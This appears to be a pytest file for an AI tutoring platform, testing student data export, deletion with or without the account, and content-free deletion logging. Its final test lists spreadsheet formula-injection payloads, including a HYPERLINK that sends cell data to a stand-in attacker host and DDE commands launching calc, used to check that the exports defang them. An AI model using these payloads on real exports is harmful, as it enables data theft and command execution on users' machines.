"""A student sees everything stored about them, and deletes it (with or without the account)."""

from __future__ import annotations

import csv
import io
import zipfile

import httpx

from ainative.csv_cells import unescape
from tests.spreadsheet import formula_cells
from tests.stack import Stack
from tests.support.api import wait_answer
from tests.support.eventually import eventually


def _answered(api: httpx.Client, headers: dict[str, str], prompt: str) -> dict:
    r = api.post("/api/v1/tutor/requests", headers=headers, json={"prompt": prompt})
    assert r.status_code in (200, 202), r.text
    if r.status_code == 200:
        return r.json()
    return wait_answer(api, headers, r.json()["id"], timeout=120)


def test_a_student_downloads_everything_stored_about_them(api: httpx.Client, make_user) -> None:
    student = make_user()
    other = make_user()
    mine = _answered(api, student.headers, "What does my data export contain? (q1)")
    _answered(api, other.headers, "Someone else's question (q2)")

    data = api.get("/api/v1/me/data", headers=student.headers).json()
    assert data["account"][0]["username"] == student.username
    assert "password_hash" not in data["account"][0]
    assert [i["id"] for i in data["interactions"]] == [mine["id"]]
    # never the prompt sent to the model (tutor-only context) or the unguarded answer
    assert not {"messages", "raw_answer"} & set(data["interactions"][0])
    assert data["interactions"][0]["messages_sha256"] or data["interactions"][0]["cache_hit"]
    assert [c["given"] for c in data["consent"]] == [False, True]

    r = api.get("/api/v1/me/data", headers=student.headers, params={"format": "zip"})
    assert r.status_code == 200 and r.headers["content-type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(r.content))
    assert set(archive.namelist()) == {
        f"{t}.csv"
        for t in (
            "account",
            "consent",
            "courses",
            "sessions",
            "interactions",
            "escalations",
            "escalation_replies",
            "events",
        )
    }
    assert mine["id"] in archive.read("interactions.csv").decode()
    assert "Someone else" not in archive.read("interactions.csv").decode()


def test_deleting_keeps_the_account_when_asked(api: httpx.Client, make_user, stack: Stack) -> None:
    student = make_user()
    prompt = "A question whose cached answer must go too (q3)"
    first = _answered(api, student.headers, prompt)
    assert first["status"] == "done"
    other = make_user()
    assert _answered(api, other.headers, prompt)["cache_hit"] is True  # cached before deletion

    r = api.delete("/api/v1/me/data", headers=student.headers)
    assert r.status_code == 422  # keep_account must be chosen explicitly
    r = api.delete("/api/v1/me/data", headers=student.headers, params={"keep_account": "true"})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["interactions"] == 1 and body["cached_answers"] == 1
    assert body["account_deleted"] is False

    data = api.get("/api/v1/me/data", headers=student.headers).json()
    assert data["interactions"] == [] and data["account"][0]["username"] == student.username
    again = make_user()
    assert _answered(api, again.headers, prompt)["cache_hit"] is False  # the cache entry is gone


def test_deleting_the_account_ends_access(api: httpx.Client, make_user) -> None:
    student = make_user()
    _answered(api, student.headers, "A question before leaving (q4)")
    r = api.delete("/api/v1/me/data", headers=student.headers, params={"keep_account": "false"})
    assert r.status_code == 200 and r.json()["account_deleted"] is True
    assert api.get("/api/v1/me/data", headers=student.headers).status_code == 401
    r = api.post(
        "/api/v1/auth/login", json={"username": student.username, "password": student.password}
    )
    assert r.status_code == 401


def test_an_admin_cannot_delete_their_own_account(api: httpx.Client, make_user) -> None:
    admin = make_user(roles=("admin",))
    r = api.delete("/api/v1/me/data", headers=admin.headers, params={"keep_account": "false"})
    assert r.status_code == 403 and "another admin" in r.json()["detail"]


def test_the_deletion_is_logged_without_content(api: httpx.Client, make_user, stack: Stack) -> None:
    student = make_user()
    secret = "my very private question text (q5)"
    _answered(api, student.headers, secret)
    api.delete("/api/v1/me/data", headers=student.headers, params={"keep_account": "true"})
    line = f"user {student.id} deleted their data"
    log_file = stack.log_dir / "api.log"
    eventually(lambda: line in log_file.read_text(errors="replace"), 60, interval=0.5)
    log = log_file.read_text(errors="replace")
    assert line in log
    assert secret not in log


FORMULA_PROMPTS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",  # full-width equals sign
    "'=1+1",  # a genuine leading apostrophe before a formula
)


def test_attack_zip_export_cells_run_no_formula_in_a_spreadsheet(
    api: httpx.Client, make_user
) -> None:
    """Questions that are spreadsheet formulas, downloaded in the student's own zip."""
    student = make_user()
    for prompt in FORMULA_PROMPTS:
        _answered(api, student.headers, prompt)
    r = api.get("/api/v1/me/data", headers=student.headers, params={"format": "zip"})
    assert r.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(r.content))
    for name in archive.namelist():  # as a spreadsheet opens them
        assert formula_cells(archive.read(name).decode("utf-8")) == [], name
    rows = csv.DictReader(io.StringIO(archive.read("interactions.csv").decode(), newline=""))
    prompts = [unescape(row["prompt"]) for row in rows]  # the documented rule recovers them
    assert sorted(prompts) == sorted(FORMULA_PROMPTS)
